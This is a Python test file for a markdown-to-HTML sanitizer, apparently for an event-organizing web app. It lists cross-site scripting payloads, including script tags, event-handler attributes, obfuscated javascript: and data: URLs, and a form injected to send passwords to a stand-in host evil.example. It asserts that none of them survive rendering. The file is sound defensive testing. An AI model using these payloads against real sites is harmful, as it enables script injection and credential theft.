"""Whatever an organizer writes: a few tags, no script, no address but the web's."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product

import pytest

from parterre.web.markdown import SCHEMES, TAGS, as_html

pytestmark = pytest.mark.pure

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "![x](https://example.org/pixel.gif)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org"onmouseover="alert(1))',
    "<a href='https://example.org' style='position:fixed' onclick=alert(1)>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</div></section><form action=//evil.example><input name=password>",
    "<!--><script>alert(1)</script>-->",
    "<style>body{display:none}</style>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "`<script>`\n\n    <script>alert(1)</script>\n\n```\n<script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt; \u202e\0",
    "[" * 5000 + "](x)" * 5000,
    "> " * 5000 + "x",
    "* " * 5000 + "x",
)


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def wrong_in(text: str) -> list[object]:
    found = Seen(as_html(text)).found
    links = [attributes for tag, attributes in found if tag == "a"]
    schemes = [re.match(r"([a-z]+):", link.get("href") or "") for link in links]
    return [
        *[tag for tag, _attributes in found if tag not in TAGS],
        *[attributes for tag, attributes in found if attributes and tag != "a"],
        *[link for link in links if set(link) - {"href", "rel"} or link.get("rel") != "nofollow noopener"],
        *[scheme[1] for scheme in schemes if scheme and scheme[1] not in SCHEMES],
    ]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_comes_through(text: str) -> None:
    assert wrong_in(text) == []


def test_nor_in_any_mixture() -> None:
    pieces = [*(text[:200] for text in HOSTILE), "**", "# ", "\n\n", "- ", "<", ">", "[", "](", "a"]

    mixed = ["".join(parts) for parts in product(pieces, repeat=2)]

    assert [text for text in mixed if wrong_in(text)] == []


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**From 16**, *with ID*", "<p><strong>From 16</strong>, <em>with ID</em></p>"),
        ("Line one\nline two", "<p>Line one<br>\nline two</p>"),
        ("# Big\n\n##### Deep", "<h2>Big</h2>\n<h3>Deep</h3>"),
        ("## First\n\n#### Deep\n\n# Big", "<h2>First</h2>\n<h3>Deep</h3>\n<h2>Big</h2>"),
        ("- Tram 4\n- Bus 7", "<ul>\n<li>Tram 4</li>\n<li>Bus 7</li>\n</ul>"),
        (
            "[Plan](https://example.org/?a=1&b=2)",
            '<p><a href="https://example.org/?a=1&amp;b=2" rel="nofollow noopener">Plan</a></p>',
        ),
        ("Fish & <b>Chips</b>", "<p>Fish &amp; &lt;b&gt;Chips&lt;/b&gt;</p>"),
    ],
)
def test_what_is_written_with_it(text: str, html: str) -> None:
    assert as_html(text).strip() == html
